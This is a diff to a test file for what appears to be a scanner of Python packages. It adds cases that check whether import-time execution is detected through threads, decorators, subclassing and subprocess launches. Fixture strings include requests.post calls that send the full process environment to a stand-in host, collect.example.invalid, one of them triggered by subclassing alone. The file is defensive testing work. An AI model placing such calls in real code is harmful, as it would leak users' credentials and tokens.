@@ -30,7 +30,10 @@ async function found(files: Readonly<Record<string, string>>): Promise<readonly 
 test.each([
   ['at the left edge', 'from ._watch import report\n\nreport()\n'],
   ['as an attribute of the module', 'from . import _watch\n\n_watch.report()\n'],
-  ['under another name', 'from ._watch import report as _seed\n\n_seed()\n'],
+  ['under another name', 'from ._watch import report as begin\n\nbegin()\n'],
+  ['under a condition', 'import os\nfrom ._watch import report\n\nif os.name == "posix":\n    report()\n'],
+  ['in a thread', 'import threading\nfrom ._watch import report\n\nthreading.Thread(target=report, daemon=True).start()\n'],
+  ['as a decorator', 'from ._watch import report\n\n\n@report\ndef bloom():\n    pass\n'],
   ['in a try', 'from plot._watch import report\n\ntry:\n    report()\nexcept Exception:\n    pass\n'],
 ])('a function that another module calls when it is imported runs on import: %s', async (_, text) => {
   expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': HELPER })).toContain('critical');
@@ -40,7 +43,39 @@ test.each([
   ['nobody calls', 'from ._watch import report\n'],
   ['a module calls by a name that stands for another one', 'from ._watch import report as other, VALUE as report\n\nVALUE()\n'],
   ['another function calls', 'from ._watch import report\n\n\ndef later():\n    report()\n'],
+  ['only a docstring calls', '"""Usage:\n\nreport()\n"""\nfrom ._watch import report\n'],
+  ['only the block of a script calls', 'from ._watch import report\n\nif __name__ == "__main__":\n    report()\n'],
   ['a module calls that means another one', 'from elsewhere import report\n\nreport()\n'],
 ])('a function that %s waits for a call', async (_, text) => {
   expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': HELPER })).toEqual(['low']);
+});
+
+const METHOD = 'import os\nimport requests\n\n\nclass Watch:\n    def __init__(self, host):\n        self.host = host\n\n    def report(self):\n        requests.post(self.host, json=dict(os.environ))\n\n\nclass Kind:\n    def __init_subclass__(cls):\n        requests.post("https://collect.example.invalid", json=dict(os.environ))\n';
+
+test.each([
+  ['at once', 'from ._watch import Watch\n\nWatch("https://collect.example.invalid").report()\n'],
+  ['by a variable', 'from ._watch import Watch\n\nwatch = Watch("https://collect.example.invalid")\nwatch.report()\n'],
+  ['by inheriting', 'from ._watch import Kind\n\n\nclass Bed(Kind):\n    pass\n'],
+])('a method that another module calls when it is imported runs on import: %s', async (_, text) => {
+  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': METHOD })).toContain('critical');
+});
+
+test.each([
+  ['examples', { 'plot/__init__.py': '', 'plot/examples/show.py': 'from plot._watch import report\n\nreport()\n' }],
+  ['a module that no __init__ imports', { 'plot/__init__.py': '', 'plot/server.py': 'from ._watch import report\n\nreport()\n' }],
+])('what is called by %s waits for a call', async (_, files) => {
+  expect(await found({ ...files, 'plot/_watch.py': HELPER })).toEqual(['low']);
+});
+
+const SCRIPT = `${HELPER}\n\nif __name__ == "__main__":\n    report()\n`;
+
+test.each([
+  ['by its path', 'import os\nimport subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "_watch.py")])\n'],
+  ['as a module', 'import subprocess\nimport sys\n\nsubprocess.Popen([sys.executable, "-m", "plot._watch"])\n'],
+])('a module for which a Python of its own is started on import is judged as a script, too: %s', async (_, text) => {
+  expect(await found({ 'plot/__init__.py': text, 'plot/_watch.py': SCRIPT })).toContain('critical');
+});
+
+test('a script that a function starts waits for a call', async () => {
+  expect(await found({ 'plot/__init__.py': 'import subprocess\nimport sys\n\n\ndef watch():\n    subprocess.Popen([sys.executable, "-m", "plot._watch"])\n', 'plot/_watch.py': SCRIPT })).toEqual(['low']);
 });
